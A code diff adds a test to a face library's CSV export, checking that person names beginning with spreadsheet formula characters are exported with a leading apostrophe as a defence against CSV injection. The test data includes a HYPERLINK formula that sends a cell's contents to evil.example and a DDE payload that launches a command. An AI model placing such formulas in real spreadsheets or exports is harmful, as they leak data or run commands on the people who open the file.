@@ -108,3 +108,19 @@ def test_stdout_export(library):
     result = app("export", "--data-dir", str(library["config"].data_dir), "-")
     assert result.returncode == 0
     assert result.stdout == "".join(export.faces_csv(library["store"]))
+
+
+def test_a_name_that_would_be_a_spreadsheet_formula_is_exported_as_text(library, tmp_path):
+    """CSV injection: a cell starting with = + - @ (or a tab or CR) runs as a formula in Excel and LibreOffice."""
+    store = library["store"]
+    names = ['=HYPERLINK("http://evil.example/?"&A2,"Click me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-Ann"]
+    faces = [f for f in store.faces.matrix().ids.tolist() if f != library["obama"].id][: len(names)]
+    for face, name in zip(faces, names):
+        store.people.move_faces_to_name([face], name)
+    out = tmp_path / "faces.csv"
+    export.write_faces_csv(store, out)
+    cells = {int(r["face_id"]): r["person"] for r in _rows(out.read_text(encoding="utf-8"))}
+    assert [cells[f] for f in faces] == ["'" + name for name in names]
+    assert cells[library["obama"].id] == "Barack Obama"  # ordinary names as they are
+    for face in faces:  # the library keeps its names as given
+        store.people.move_faces([face], None)
